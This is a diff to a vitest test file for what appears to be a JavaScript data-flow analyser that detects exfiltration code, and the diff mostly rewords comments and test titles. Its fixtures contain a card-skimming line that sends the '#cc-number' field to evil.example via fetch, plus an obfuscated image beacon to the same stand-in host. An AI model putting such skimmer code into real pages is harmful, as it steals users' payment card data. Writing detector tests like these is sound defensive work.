@@ -1,4 +1,4 @@
-// Guards that what costs many steps does not hide what stands after it.
+// Expensive code does not hide the code after it.
 import { describe, expect, it } from 'vitest'
 import { lookAtCode } from '#program/index.ts'
 import { flowsIn, look } from './look.ts'
@@ -6,7 +6,7 @@ import { flowsIn, look } from './look.ts'
 const thief = `document.querySelector('#cc-number').addEventListener('change', (e) => fetch('https://evil.example/?d=' + e.target.value));`
 const long = 'for (let k = 0; k < 9e3; k++) for (let i = 0; i < 9e3; i++);'
 
-describe('what stands after is found, and the run says that there may be more', () => {
+describe('the code after it is found, and the run reports that there may be more', () => {
   it.each([
     ['a long loop', long + thief],
     ['a long loop of the same function', `(function () { ${long} ${thief} })()`],
@@ -24,7 +24,7 @@ describe('what stands after is found, and the run says that there may be more', 
   })
 })
 
-describe('what nobody called is read to its end', () => {
+describe('code that nobody called is read completely', () => {
   it.each([
     [
       'where a loop waits for what never comes',
@@ -39,18 +39,18 @@ describe('what nobody called is read to its end', () => {
     expect(run.ended).toBe(true)
   })
 
-  it('with what stands in a loop under a condition that only many rounds would meet', () => {
+  it('including code in a loop under a condition that only many rounds would meet', () => {
     const run = look(`function f() { var x = 0; for (;;) { x++; if (x > 1e7) { ${thief} } } }`)
     expect(flowsIn(run)).toContain('card > fetch evil.example')
   })
 })
 
-it('takes more steps where more effort is asked for', () => {
+it('takes more steps if more effort is requested', () => {
   const text = 'for (let j = 0; j < 1500; j++) for (let i = 0; i < 1000; i++);'
   expect([1, 4].map((effort) => lookAtCode(text, effort).ended)).toEqual([false, true])
 })
 
-it('a loop of many rounds that ends is run to its end', () => {
+it('a long loop that ends is run completely', () => {
   const text = `let n = ''; for (let i = 0; i < 20000; i++) if (i % 4000 === 0) n += 'l'; new Image().src = 'https://evi' + n.slice(0, 1) + '.example/' + n`
   const run = look(text)
   expect(run.ended).toBe(true)
